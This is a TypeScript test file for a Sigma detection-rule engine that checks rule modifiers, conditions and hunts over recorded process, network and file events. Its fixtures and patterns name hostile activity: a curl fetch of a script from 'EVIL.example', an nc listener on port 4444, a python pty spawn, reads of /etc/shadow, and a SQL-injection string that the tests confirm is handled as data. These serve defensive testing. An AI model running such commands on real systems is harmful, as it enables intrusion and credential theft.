import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  type Alert,
  type CompiledRule,
  compileRule,
  hunt,
  huntBatchOn,
  parseRule,
} from '../../src/detect/index.js';
import { type Store, sqliteCapabilities } from '../../src/store/index.js';
import { DIALECTS, withStore } from '../helpers/store-dialects.js';
import { huntFixture } from './detect-fixture.js';

/** A rule around a detection block (indented YAML lines), for one logsource category. */
function rule(detection: string, category = 'process_creation'): string {
  return `title: test rule
id: 00000000-0000-4000-8000-000000000001
author: Test Author
level: high
logsource:
  product: linux
  category: ${category}
detection:
${detection}
`;
}

async function matches(store: Store, yaml: string): Promise<Alert[]> {
  const compiled = compileRule(parseRule(yaml, 'test.yml'), store.caps);
  assert.equal(compiled.status, 'ok', compiled.status === 'unsupported' ? compiled.reason : '');
  if (compiled.status !== 'ok') return [];
  return hunt(store, [compiled], { limit: 1000 });
}

async function pids(store: Store, yaml: string): Promise<number[]> {
  return (await matches(store, yaml)).map((a) => a.pid!).sort((a, b) => a - b);
}

const PROCESS_CASES: [string, string, number[]][] = [
  ['plain value, case-insensitive', `  sel:\n    Image: '/USR/BIN/CURL'\n  condition: sel`, [101]],
  ['cased, other case', `  sel:\n    Image|cased: '/USR/BIN/CURL'\n  condition: sel`, []],
  ['cased, same case', `  sel:\n    Image|cased: '/usr/bin/curl'\n  condition: sel`, [101]],
  ['contains', `  sel:\n    CommandLine|contains: 'evil.EXAMPLE'\n  condition: sel`, [101]],
  ['startswith', `  sel:\n    CommandLine|startswith: 'nc '\n  condition: sel`, [102]],
  ['endswith', `  sel:\n    Image|endswith: '/python3'\n  condition: sel`, [103]],
  [
    'contains|all, all present',
    `  sel:\n    CommandLine|contains|all: [pty, spawn]\n  condition: sel`,
    [103],
  ],
  ['contains|all, one missing', `  sel:\n    CommandLine|contains|all: [pty, nowhere]\n  condition: sel`, []],
  ['a list is OR', `  sel:\n    Image|endswith: ['/nc', '/curl']\n  condition: sel`, [101, 102]],
  ['a map is AND', `  sel:\n    Image|endswith: /curl\n    User: alice\n  condition: sel`, [101]],
  ['User falls back to the uid', `  sel:\n    User: root\n    Image|endswith: /nc\n  condition: sel`, [102]],
  [
    'a list of maps is OR',
    `  sel:\n    - Image: /usr/bin/nc\n    - Image: /usr/bin/python3\n  condition: sel`,
    [102, 103],
  ],
  ['? wildcard', `  sel:\n    Image: '/usr/bin/c?rl'\n  condition: sel`, [101]],
  ['* wildcard', `  sel:\n    CommandLine: 'nc*4444'\n  condition: sel`, [102]],
  ['escaped * is literal', `  sel:\n    CommandLine: 'a\\*b'\n  condition: sel`, [104]],
  ['% and _ in a value are literal', `  sel:\n    Image: '/tmp/x%y_z'\n  condition: sel`, [104]],
  ['re', `  sel:\n    CommandLine|re: '^nc -l[a-z]+ [0-9]{4}$'\n  condition: sel`, [102]],
  ['ParentImage', `  sel:\n    ParentImage|endswith: /bash\n  condition: sel`, [101]],
  ['ParentCommandLine', `  sel:\n    ParentCommandLine: bash\n  condition: sel`, [101]],
  ['CurrentDirectory', `  sel:\n    CurrentDirectory: /tmp\n  condition: sel`, [101]],
  ['exists false', `  sel:\n    CurrentDirectory|exists: false\n  condition: sel`, [106]],
  ['windash', `  sel:\n    CommandLine|windash|contains: '/lvp'\n  condition: sel`, [102]],
  [
    'hostile value is data',
    `  sel:\n    CommandLine|contains: "'; DROP TABLE processes; --"\n  condition: sel`,
    [106],
  ],
  [
    'not',
    `  sel:\n    Image|startswith: /usr/bin/\n  filter:\n    Image|endswith: /bash\n  condition: sel and not filter`,
    [101, 102, 103],
  ],
  [
    'not of a missing field keeps the row',
    `  sel:\n    Image|endswith: /sh\n  filter:\n    CurrentDirectory: /\n  condition: sel and not filter`,
    [106],
  ],
  [
    '1 of sel_*',
    `  sel_a:\n    Image|endswith: /nc\n  sel_b:\n    Image|endswith: /curl\n  condition: 1 of sel_*`,
    [101, 102],
  ],
  [
    'all of sel_*',
    `  sel_a:\n    Image|endswith: /curl\n  sel_b:\n    User: alice\n  condition: all of sel_*`,
    [101],
  ],
  [
    '1 of them',
    `  a:\n    Image|endswith: /nc\n  b:\n    Image|endswith: /python3\n  condition: 1 of them`,
    [102, 103],
  ],
  [
    'all of them',
    `  a:\n    Image|endswith: /curl\n  b:\n    CurrentDirectory: /tmp\n  condition: all of them`,
    [101],
  ],
  [
    'parentheses and or',
    `  a:\n    Image|endswith: /nc\n  b:\n    Image|endswith: /curl\n  c:\n    User: alice\n  condition: (a or b) and not c`,
    [102],
  ],
  [
    'a list of conditions is OR',
    `  a:\n    Image|endswith: /nc\n  b:\n    Image|endswith: /curl\n  condition: [a, b]`,
    [101, 102],
  ],
];

const NETWORK_CASES: [string, string, number[]][] = [
  ['cidr IPv4', `  sel:\n    DestinationIp|cidr: 192.168.0.0/16\n  condition: sel`, [101]],
  ['cidr IPv4 not on an octet', `  sel:\n    DestinationIp|cidr: 8.8.8.0/23\n  condition: sel`, [101]],
  ['cidr IPv6', `  sel:\n    DestinationIp|cidr: fe80::/10\n  condition: sel`, [103]],
  ['DestinationPort as a number', `  sel:\n    DestinationPort: 53\n  condition: sel`, [101]],
  ['gt on a port', `  sel:\n    DestinationPort|gt: 60\n  condition: sel`, [101, 103]],
  [
    'pofr field Host on a connection',
    `  sel:\n    Host: web1\n    DestinationPort: 80\n  condition: sel`,
    [103],
  ],
  ['Initiated', `  sel:\n    Initiated: 'true'\n    Image|endswith: /python3\n  condition: sel`, [103]],
  ['a listener is not a connection', `  sel:\n    Image|endswith: /nc\n  condition: sel`, []],
];

for (const dialect of DIALECTS) {
  test(`[${dialect}] each Sigma modifier and condition form selects exactly the rows it should`, (t) =>
    withStore(t, dialect, async (store) => {
      await huntFixture(store);
      for (const [name, detection, want] of PROCESS_CASES) {
        assert.deepEqual(await pids(store, rule(detection)), want, `process_creation: ${name}`);
      }
      for (const [name, detection, want] of NETWORK_CASES) {
        assert.deepEqual(await pids(store, rule(detection, 'network_connection')), want, `network: ${name}`);
      }
      assert.deepEqual(
        await pids(
          store,
          rule(`  sel:\n    TargetFilename|startswith: /etc/sha\n  condition: sel`, 'file_event'),
        ),
        [101],
      );
      const n = await store.db
        .selectFrom('processes')
        .select((eb) => eb.fn.countAll().as('n'))
        .executeTakeFirst();
      assert.equal(Number(n?.n), 7, 'the hostile command line changed nothing');
    }));

  test(`[${dialect}] live evaluation of each batch (its materialised view) selects the same rows as hunt`, (t) =>
    withStore(t, dialect, async (store) => {
      const { host } = await huntFixture(store);
      const cases = [
        ...PROCESS_CASES.map(([n, d, w]) => [n, rule(d), w] as const),
        ...NETWORK_CASES.map(([n, d, w]) => [n, rule(d, 'network_connection'), w] as const),
      ];
      for (const [name, yaml, want] of cases) {
        const c = compileRule(parseRule(yaml, 'live.yml'), store.caps) as CompiledRule;
        const live = [
          ...(await huntBatchOn(store.db, [c], { hostId: host.hostId, seq: 1 }, 1000)),
          ...(await huntBatchOn(store.db, [c], { hostId: host.hostId, seq: 2 }, 1000)),
        ];
        assert.deepEqual(
          live.map((a) => a.pid!).sort((a, b) => a - b),
          want,
          `live: ${name}`,
        );
      }
    }));

  test(`[${dialect}] an alert carries the rule's id, title, level and author and the batch that recorded the row`, (t) =>
    withStore(t, dialect, async (store) => {
      const { hashes } = await huntFixture(store);
      const [proc] = await matches(store, rule(`  sel:\n    Image: /usr/bin/curl\n  condition: sel`));
      assert.equal(proc.rule_id, '00000000-0000-4000-8000-000000000001');
      assert.equal(proc.title, 'test rule');
      assert.equal(proc.level, 'high');
      assert.equal(proc.author, 'Test Author');
      assert.equal(proc.host, 'web1');
      assert.equal(proc.cmdline, 'curl -s http://EVIL.example/x.sh');
      assert.equal(proc.parent_exe, '/usr/bin/bash');
      assert.deepEqual([proc.batch_seq, proc.batch_hash], [1, hashes[0]]);
      const [f] = await matches(
        store,
        rule(`  sel:\n    TargetFilename: /etc/shadow\n  condition: sel`, 'file_event'),
      );
      assert.deepEqual(
        [f.table, f.path, f.exe, f.batch_seq, f.batch_hash],
        ['file_opens', '/etc/shadow', '/usr/bin/curl', 2, hashes[1]],
      );
      const [e] = await matches(
        store,
        rule(`  sel:\n    DestinationIp: 192.168.1.5\n  condition: sel`, 'network_connection'),
      );
      assert.deepEqual([e.table, e.remote_port, e.exe, e.batch_seq], ['endpoints', 443, '/usr/bin/curl', 2]);
    }));

  test(`[${dialect}] hunt keeps to the window and the hosts asked for`, (t) =>
    withStore(t, dialect, async (store) => {
      const { host } = await huntFixture(store);
      const c = compileRule(
        parseRule(rule(`  sel:\n    Image|startswith: /\n  condition: sel`), 'w.yml'),
        store.caps,
      );
      assert.equal(c.status, 'ok');
      if (c.status !== 'ok') return;
      const all = await hunt(store, [c], { limit: 100 });
      assert.equal(all.length, 7);
      const from = all[2].time;
      const to = all[4].time;
      assert.deepEqual(
        (await hunt(store, [c], { limit: 100, from, to })).map((a) => a.pid),
        [102, 103, 104],
      );
      assert.equal((await hunt(store, [c], { limit: 100, hosts: ['other'] })).length, 0);
      assert.equal((await hunt(store, [c], { limit: 100, hosts: [host.hostId] })).length, 7);
      assert.equal((await hunt(store, [c], { limit: 2 })).length, 2);
    }));
}

test('what pofr cannot express is unsupported, with the reason, never skipped', () => {
  const reasonOf = (yaml: string) => {
    const c = compileRule(parseRule(yaml, 'u.yml'), sqliteCapabilities);
    return c.status === 'unsupported' ? c.reason : 'ok';
  };
  assert.match(reasonOf(rule(`  sel:\n    LogonId: 0\n  condition: sel`)), /field "LogonId"/);
  assert.match(reasonOf(rule(`  sel:\n    CommandLine|base64: x\n  condition: sel`)), /modifier "base64"/);
  assert.match(reasonOf(rule(`  sel:\n    CommandLine|re|i: x\n  condition: sel`)), /modifier "i"/);
  assert.match(reasonOf(rule(`  keywords:\n    - evil\n  condition: keywords`)), /keyword/);
  assert.match(reasonOf(rule(`  sel:\n    Image: x\n  condition: sel | count() > 5`)), /aggregation/);
  assert.match(reasonOf(rule(`  sel:\n    Image: x\n  condition: other`)), /"other"/);
  assert.match(
    reasonOf(rule(`  sel:\n    Image: x\n  condition: sel`, 'process_access')),
    /category "process_access"/,
  );
  assert.match(
    reasonOf(rule(`  sel:\n    DestinationIp|cidr: '::/8'\n  condition: sel`, 'network_connection')),
    /cidr/,
  );
});

test('a malformed rule file is an error naming the file and line', () => {
  const text =
    'title: broken\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n    Image: [a, b\n  condition: sel\n';
  assert.throws(
    () => parseRule(text, 'rules/broken.yml'),
    (e: Error & { code?: string }) => {
      assert.equal(e.code, 'POFR_RULE_INVALID');
      assert.match(e.message, /^rules\/broken\.yml:\d+:\d+: /);
      const line = Number(e.message.split(':')[1]);
      assert.ok(line >= 6 && line <= 8, e.message);
      return true;
    },
  );
  assert.throws(
    () => parseRule('title: x\nlogsource: {}\n', 'no-detection.yml'),
    /no-detection\.yml:1:1: .*"detection"/,
  );
});
